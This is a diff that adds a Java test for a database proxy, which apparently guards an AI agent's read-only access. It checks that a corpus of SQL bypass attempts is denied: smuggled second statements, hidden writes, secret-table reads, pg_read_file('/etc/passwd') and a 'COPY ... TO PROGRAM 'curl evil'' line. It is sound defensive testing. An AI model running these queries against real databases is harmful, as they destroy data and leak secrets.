@@ -1,0 +1,185 @@
+package io.dbwarden.proxy.policy;
+
+import io.dbwarden.api.validation.PolicyLoader;
+import io.dbwarden.proxy.filter.Decision;
+import io.dbwarden.proxy.filter.StatementInfo;
+import io.dbwarden.proxy.filter.Verdict;
+import io.dbwarden.proxy.sql.SqlText;
+import io.dbwarden.proxy.sql.StatementAnalyzer;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.MethodSource;
+
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.stream.Stream;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+/**
+ * Attempts to get a write, a secret table, a dangerous function or a read-write session past a read-only agent
+ * policy. Each query string is split and decided exactly as the proxy does; the most restrictive statement
+ * decision is the query's outcome. Positive controls show the policy is not simply denying everything.
+ */
+class BypassCorpusTest {
+    static PolicyEngine engine;
+    static StatementAnalyzer analyzer;
+
+    @BeforeAll
+    static void load() throws Exception {
+        engine = PolicyEngine.of(PolicyLoader.load(Path.of("src/test/resources/policies/corpus-agent.yaml")),
+                "agents/copilot");
+        analyzer = new StatementAnalyzer(10_000, 1 << 20, 5_000, 1);
+    }
+
+    @AfterAll
+    static void close() {
+        analyzer.close();
+    }
+
+    static Decision outcome(String sql) {
+        List<SqlText.Statement> parts = SqlText.split(sql, true);
+        Decision worst = Decision.ALLOW;
+        for (SqlText.Statement s : parts) {
+            Verdict v = engine.decide(analyzer.analyzeNow(StatementInfo.of(s)));
+            if (!v.forwards()) {
+                return v.decision();
+            }
+        }
+        return worst;
+    }
+
+    static Stream<Arguments> bypassAttempts() {
+        List<String> attempts = new ArrayList<>(List.of(
+                // plain writes, case, comments, whitespace
+                "DELETE FROM users",
+                "delete from users",
+                "DeLeTe FrOm users",
+                "/* hi */ DELETE FROM users",
+                "-- leading comment\nDELETE FROM users",
+                "   \n\t DELETE\nFROM\tusers",
+                "/* /* nested */ still a comment */ DELETE FROM users",
+                "INSERT INTO users VALUES (1)",
+                "UPDATE users SET a = 1",
+                "MERGE INTO users u USING src s ON u.id = s.id WHEN MATCHED THEN DELETE",
+                // multi-statement smuggling
+                "SELECT 1; DELETE FROM users",
+                "SELECT 1;DELETE FROM users",
+                "SELECT 1 /* ; */; DROP TABLE users",
+                "SELECT ';' ; DROP TABLE users",
+                "SELECT $$;$$; DROP TABLE users",
+                "SELECT $a$ $b$ $a$; DELETE FROM users",
+                "SELECT E'\\\\'; DELETE FROM users; --'",
+                "SELECT * FROM users WHERE 1=1; DELETE FROM users WHERE 1=1",
+                "BEGIN; DELETE FROM users; COMMIT",
+                // writes hidden in CTEs, EXPLAIN ANALYZE, PREPARE, DO, functions
+                "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d",
+                "WITH x AS (SELECT 1), d AS (UPDATE users SET a = 1 RETURNING *) SELECT * FROM d",
+                "WITH RECURSIVE r AS (SELECT 1) INSERT INTO users SELECT * FROM r",
+                "WITH d AS MATERIALIZED (DELETE FROM users RETURNING id) SELECT count(*) FROM d",
+                "EXPLAIN ANALYZE DELETE FROM users",
+                "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM users",
+                "PREPARE p AS DELETE FROM users",
+                "PREPARE p(int) AS UPDATE users SET a = $1",
+                "EXECUTE p",
+                "DO $$BEGIN DELETE FROM users; END$$",
+                "DO 'BEGIN DELETE FROM users; END'",
+                "DO LANGUAGE plpgsql $body$ BEGIN EXECUTE 'DROP TABLE users'; END $body$",
+                "CALL cleanup_users()",
+                "CREATE OR REPLACE FUNCTION f() RETURNS void AS $$ DELETE FROM users $$ LANGUAGE sql",
+                "SELECT * INTO stolen FROM users",
+                "CREATE TABLE copy_of_users AS SELECT * FROM users",
+                // DDL and admin
+                "DROP TABLE IF EXISTS users CASCADE",
+                "TRUNCATE users",
+                "TRUNCATE TABLE ONLY users",
+                "ALTER TABLE users DROP COLUMN email",
+                "GRANT ALL ON users TO PUBLIC",
+                "VACUUM FULL users",
+                "LOAD 'evil.so'",
+                "LISTEN anything",
+                // secret tables: quoting, case, spacing, unicode escapes, subqueries, joins
+                "SELECT * FROM secret.keys",
+                "SELECT * FROM \"secret\".\"keys\"",
+                "SELECT * FROM SECRET.KEYS",
+                "SELECT * FROM secret . keys",
+                "SELECT * FROM U&\"secr\\0065t\".keys",
+                "SELECT * FROM public.users u JOIN secret.keys k ON true",
+                "SELECT (SELECT max(v) FROM secret.keys)",
+                "SELECT * FROM public.users WHERE id IN (SELECT id FROM secret.keys)",
+                "SELECT * FROM public.users, secret.keys",
+                "SELECT * FROM ONLY secret.keys",
+                "SELECT * FROM LATERAL (SELECT * FROM secret.keys) x",
+                "TABLE secret.keys",
+                "VALUES ((SELECT max(v) FROM secret.keys))",
+                "SELECT * FROM pg_catalog.pg_authid",
+                // search_path games
+                "SET search_path = secret",
+                "SET search_path TO secret, public; SELECT * FROM keys",
+                "SELECT set_config('search_path', 'secret', false)",
+                "RESET ALL",
+                // dangerous and dynamic-SQL functions
+                "SELECT pg_read_file('/etc/passwd')",
+                "SELECT pg_catalog.pg_read_file('/etc/passwd')",
+                "SELECT \"pg_read_file\"('/etc/passwd')",
+                "SELECT PG_READ_FILE('/etc/passwd')",
+                "SELECT lo_export(1, '/tmp/x')",
+                "SELECT pg_terminate_backend(123)",
+                "SELECT * FROM dblink('host=x', 'DELETE FROM users') AS t(a int)",
+                "SELECT query_to_xml('SELECT * FROM secret.keys', true, true, '')",
+                "SELECT table_to_xml('secret.keys', true, true, '')",
+                // COPY
+                "COPY users TO PROGRAM 'curl evil'",
+                "COPY (SELECT * FROM secret.keys) TO STDOUT",
+                "COPY users FROM STDIN",
+                // escaping the read-only session
+                "BEGIN READ WRITE",
+                "START TRANSACTION READ WRITE",
+                "SET TRANSACTION READ WRITE",
+                "SET default_transaction_read_only = off",
+                "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
+                // not SQL at all
+                "FROBNICATE users",
+                "$$ DELETE FROM users $$"
+        ));
+        // a statement too long to analyse is denied, not waved through
+        attempts.add("SELECT * FROM users WHERE id IN (" + "1, ".repeat(300_000) + "1)");
+        return attempts.stream().map(Arguments::of);
+    }
+
+    @ParameterizedTest
+    @MethodSource("bypassAttempts")
+    void blocked(String sql) {
+        assertThat(outcome(sql)).as(sql.length() > 200 ? sql.substring(0, 200) : sql).isNotEqualTo(Decision.ALLOW);
+    }
+
+    @Test
+    void corpusIsLargeEnough() {
+        assertThat(bypassAttempts().count()).isGreaterThanOrEqualTo(60);
+    }
+
+    static Stream<Arguments> legitimate() {
+        return Stream.of(
+                "SELECT * FROM users",
+                "select id from public.users where email = 'x;DROP TABLE y'",
+                "SELECT E'\\'; DELETE FROM users; --'",
+                "/* /* */ DELETE FROM users */ SELECT 1",
+                "BEGIN", "COMMIT", "ROLLBACK", "START TRANSACTION READ ONLY",
+                "SHOW search_path",
+                "SELECT u.id, count(*) FROM users u JOIN orders o ON o.user_id = u.id GROUP BY u.id",
+                "WITH recent AS (SELECT * FROM orders WHERE created > now() - interval '1 day') SELECT * FROM recent",
+                "SELECT * FROM users WHERE id = $1",
+                "SELECT 1" + " ".repeat(100_000) + " FROM users"
+        ).map(Arguments::of);
+    }
+
+    @ParameterizedTest
+    @MethodSource("legitimate")
+    void allowed(String sql) {
+        assertThat(outcome(sql)).as(sql.length() > 200 ? sql.substring(0, 200) : sql).isEqualTo(Decision.ALLOW);
+    }
+}
